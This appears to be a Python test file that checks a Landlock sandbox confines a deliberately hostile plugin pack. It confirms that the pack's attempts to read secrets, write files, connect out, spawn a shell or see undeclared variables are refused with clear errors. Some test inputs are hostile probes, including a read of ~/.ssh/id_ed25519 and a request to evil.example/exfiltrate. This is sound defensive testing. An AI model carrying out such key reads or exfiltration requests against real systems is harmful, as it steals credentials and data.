"""Sandboxed packs (issue 35): a deliberately hostile third-party pack under
``server.sandboxed_packs: ["*"]`` cannot read, write, connect, spawn or see past its declared
permissions; each refusal reaches the caller as an ``isError`` naming the permission to add."""

from __future__ import annotations

import asyncio
import http.server
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType
from typing import Any

import anyio
import httpx
import mcp
import pytest

from lorenz.results import ToolResult
from lorenz.sandbox import landlock
from lorenz.testing import ServedWorkflow
from lorenz.workspace import Workspace, open_workspace

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        landlock.missing_feature(landlock.abi_version(), network=True) is not None, reason="no Landlock"
    ),
]


class _Api(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps({"port": self.server.server_address[1]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def apis() -> Iterator[tuple[int, int]]:
    """Two fake APIs on loopback: the declared one and one the pack has no permission for."""
    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Api) for _ in range(2)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield servers[0].server_address[1], servers[1].server_address[1]
    for server in servers:
        server.shutdown()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, sandbox_packs: ModuleType) -> Path:
    root: Path = sandbox_packs.write_site(tmp_path_factory.mktemp("sandbox-site"))
    return root


def _workflow(directory: Path, api_port: int, *, permissions: str = "") -> Path:
    (directory / "secret.txt").write_text("the workflow's secret", encoding="utf-8")
    (directory / "shared").mkdir(exist_ok=True)
    (directory / "shared" / "notes.txt").write_text("shared notes", encoding="utf-8")
    granted = permissions or f"network: ['127.0.0.1:{api_port}']\n      read: [{directory / 'shared'}]"
    front = (
        "tracker:\n  kind: local\n  path: ./board\n"
        f"tools:\n  hostile:\n    permissions:\n      {granted}\n"
        "server:\n  sandboxed_packs: ['*']\n  tool_timeout_seconds: 10\n"
    )
    path = directory / "WORKFLOW.md"
    path.write_text(f"---\n{front}---\nWork the board.\n", encoding="utf-8")
    return path


def _env() -> dict[str, str]:
    env = {key: value for key, value in os.environ.items() if not key.startswith("LORENZ_")}
    return {**env, "LORENZ_LOAD_PLUGINS": "lorenz-local,sbx-hostile"}


@pytest.fixture
def workspace(
    site: Path, tmp_path: Path, apis: tuple[int, int], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Workspace]:
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.chdir(tmp_path)
    _workflow(tmp_path, apis[0])
    monkeypatch.setenv("HOSTILE_TOKEN", "declared")  # what a pack process inherits is this process's
    monkeypatch.setenv("OTHER_TOKEN", "undeclared")
    opened = open_workspace(cwd=tmp_path, env=_env())
    try:
        yield opened
    finally:
        opened.close()
        sys.modules.pop("sbx_hostile", None)


def call(workspace: Workspace, tool: str, arguments: Any = None) -> ToolResult:
    async def run() -> ToolResult:
        async with httpx.AsyncClient() as http:
            return await workspace.call(tool, arguments or {}, http)

    return asyncio.run(run())


def _error(result: ToolResult) -> str:
    assert not result.success, result
    return str(result.error)


def test_a_sandboxed_pack_reaches_only_what_it_declared(
    workspace: Workspace, tmp_path: Path, apis: tuple[int, int]
) -> None:
    assert "sbx_hostile" not in sys.modules
    secret = tmp_path / "secret.txt"
    assert _error(call(workspace, "hostile_read", {"path": str(secret)})) == (
        f"pack hostile tried to read {secret}; add it to tools.hostile.permissions.read"
    )
    ssh = Path.home() / ".ssh" / "id_ed25519"
    assert "add it to tools.hostile.permissions.read" in _error(call(workspace, "hostile_read", {"path": str(ssh)}))
    shared = call(workspace, "hostile_read", {"path": str(tmp_path / "shared" / "notes.txt")})
    assert shared.result == {"text": "shared notes"}

    planted = tmp_path / "planted.txt"
    assert _error(call(workspace, "hostile_write", {"path": str(planted)})) == (
        f"pack hostile tried to write to {planted}; add it to tools.hostile.permissions.write"
    )
    assert not planted.exists()
    assert call(workspace, "hostile_scratch").result == {"text": "ok"}

    declared, undeclared = apis
    answered = call(workspace, "hostile_get", {"url": f"http://127.0.0.1:{declared}/v1"})
    assert answered.result == {"body": {"port": declared}}
    assert _error(call(workspace, "hostile_get", {"url": f"http://127.0.0.1:{undeclared}/v1"})) == (
        f"pack hostile tried to connect to 127.0.0.1:{undeclared}; add it to tools.hostile.permissions.network"
    )
    assert _error(call(workspace, "hostile_get", {"url": "https://evil.example/exfiltrate"})) == (
        "pack hostile tried to connect to evil.example:443; add it to tools.hostile.permissions.network"
    )
    # Past the proxy, straight to the port: the kernel refuses it.
    assert _error(call(workspace, "hostile_connect", {"port": undeclared})) == (
        f"pack hostile tried to connect to 127.0.0.1:{undeclared}; add it to tools.hostile.permissions.network"
    )

    assert _error(call(workspace, "hostile_sh")) == (
        "pack hostile tried to run /bin/sh; set tools.hostile.permissions.subprocess: true"
    )
    names = call(workspace, "hostile_env").result["names"]
    assert "HOSTILE_TOKEN" in names and "OTHER_TOKEN" not in names
    assert "add it to tools.hostile.permissions.read" in _error(call(workspace, "hostile_environ"))


def _opened(tmp_path: Path, permissions: str, api_port: int, **server: str) -> Workspace:
    _workflow(tmp_path, api_port, permissions=permissions)
    if server:
        path = tmp_path / "WORKFLOW.md"
        extra = "".join(f"  {key}: {value}\n" for key, value in server.items())
        path.write_text(path.read_text(encoding="utf-8").replace("server:\n", f"server:\n{extra}"), encoding="utf-8")
    return open_workspace(cwd=tmp_path, env=_env())


def test_a_pack_granted_subprocess_and_write_may_use_them(
    site: Path, tmp_path: Path, apis: tuple[int, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    opened = _opened(tmp_path, f"subprocess: true\n      write: [{out}]", apis[0])
    try:
        assert call(opened, "hostile_sh").result == {"out": "spawned"}
        assert call(opened, "hostile_write", {"path": str(out / "x.txt")}).success
        assert (out / "x.txt").read_text(encoding="utf-8") == "pwned"
        # What it spawns runs under the same policy.
        assert "permissions.read" in _error(call(opened, "hostile_read", {"path": str(tmp_path / "secret.txt")}))
    finally:
        opened.close()
        sys.modules.pop("sbx_hostile", None)


def test_without_landlock_a_sandboxed_pack_does_not_start_unless_the_operator_accepts_it(
    site: Path, tmp_path: Path, apis: tuple[int, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(str(site))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(landlock, "abi_version", lambda: 0)
    opened = _opened(tmp_path, "env: []", apis[0])
    try:
        assert "hostile" not in opened.pack_names()
        (failure,) = opened.mounted.failures
        assert failure.pack == "hostile" and "this kernel lacks Landlock" in failure.error
        assert "server.sandbox_fallback: warn" in failure.error
    finally:
        opened.close()
    opened = _opened(tmp_path, "env: []", apis[0], sandbox_fallback="warn")
    try:
        assert "hostile" in opened.pack_names()
        assert call(opened, "hostile_read", {"path": str(tmp_path / "secret.txt")}).success
    finally:
        opened.close()
        sys.modules.pop("sbx_hostile", None)


def test_each_denial_reaches_an_mcp_client_as_an_error_naming_the_permission(
    site: Path, tmp_path: Path, apis: tuple[int, int]
) -> None:
    _workflow(tmp_path, apis[0])
    env = _env()
    env["PYTHONPATH"] = os.pathsep.join([str(site), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    server = ServedWorkflow(tmp_path, env)
    secret = tmp_path / "secret.txt"
    try:
        health = httpx.get(server.base + "/healthz").json()
        (status,) = health["isolatedPacks"]
        assert status["pack"] == "hostile" and status["sandboxed"] is True

        async def scenario() -> None:
            async with mcp.Client(server.url) as client:
                expected = {
                    "hostile_read": ({"path": str(secret)}, "tools.hostile.permissions.read"),
                    "hostile_write": ({"path": str(tmp_path / "x")}, "tools.hostile.permissions.write"),
                    "hostile_get": ({"url": f"http://127.0.0.1:{apis[1]}/"}, "tools.hostile.permissions.network"),
                    "hostile_sh": ({}, "tools.hostile.permissions.subprocess: true"),
                }
                for tool, (arguments, permission) in expected.items():
                    result = await client.call_tool(tool, arguments)
                    assert result.is_error is True, (tool, result)
                    assert permission in result.content[0].text, (tool, result.content[0].text)
                answered = await client.call_tool("hostile_get", {"url": f"http://127.0.0.1:{apis[0]}/"})
                assert answered.is_error is False and answered.structured_content == {"body": {"port": apis[0]}}

        anyio.run(scenario)
        assert "the workflow's secret" not in server.stderr()
        assert httpx.get(server.base + "/healthz").json()["isolatedPacks"][0]["denials"] >= 1
    finally:
        server.stop()


def test_lorenz_tools_and_plugins_show_permissions_without_importing_the_pack_in_the_host(
    site: Path, tmp_path: Path, apis: tuple[int, int]
) -> None:
    _workflow(tmp_path, apis[0], permissions="network: [api.example.com]")
    env = _env()
    env["PYTHONPATH"] = os.pathsep.join([str(site), env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    listed = subprocess.run(
        [sys.executable, "-m", "lorenz", "tools", "--all", "--json"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
    )
    permissions = json.loads(listed.stdout)["permissions"]["hostile"]
    assert permissions == {
        "network": ["api.example.com"],
        "read": [],
        "write": [],
        "env": ["HOSTILE_TOKEN"],
        "subprocess": False,
    }
    shown = subprocess.run(
        [sys.executable, "-m", "lorenz", "plugins", "-v"], cwd=tmp_path, env=env, capture_output=True, text=True
    )
    assert "  hostile permissions: env: HOSTILE_TOKEN; no subprocess" in shown.stdout


def test_a_declared_path_resolves_home_and_variables_as_the_host_does(
    tmp_path: Path, sandbox_packs: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``~`` and ``$NAME`` in a typed ``Pack``'s declared paths are the host's, though its process
    has its own ``HOME`` and not the variable."""
    site = tmp_path / "site"
    site.mkdir()
    sandbox_packs.install(site, "sbx-configured", "sbx_configured", sandbox_packs.CONFIGURED)
    monkeypatch.syspath_prepend(str(site))
    home, data = tmp_path / "user", tmp_path / "data"
    for directory in (home / ".config" / "acme", data / "acme"):
        directory.mkdir(parents=True)
        (directory / "key.txt").write_text(f"key in {directory.parent.name}", encoding="utf-8")
    (home / "other.txt").write_text("not declared", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("SBX_DATA", str(data))
    workflow = tmp_path / "workflow"
    workflow.mkdir()
    monkeypatch.chdir(workflow)
    front = "tracker:\n  kind: local\n  path: ./board\ntools:\n  configured: {}\nserver:\n  sandboxed_packs: ['*']\n"
    (workflow / "WORKFLOW.md").write_text(f"---\n{front}---\nWork the board.\n", encoding="utf-8")
    env = {key: value for key, value in os.environ.items() if not key.startswith("LORENZ_")}
    opened = open_workspace(cwd=workflow, env={**env, "LORENZ_LOAD_PLUGINS": "lorenz-local,sbx-configured"})
    try:
        for path, text in (
            (home / ".config" / "acme" / "key.txt", "key in .config"),
            (data / "acme" / "key.txt", "key in data"),
        ):
            result = call(opened, "configured_read", {"path": str(path)})
            assert result.success, result.error
            assert result.result == {"text": text}
        refused = call(opened, "configured_read", {"path": str(home / "other.txt")})
        assert not refused.success and "add it to tools.configured.permissions.read" in str(refused.error)
    finally:
        opened.close()
        sys.modules.pop("sbx_configured", None)
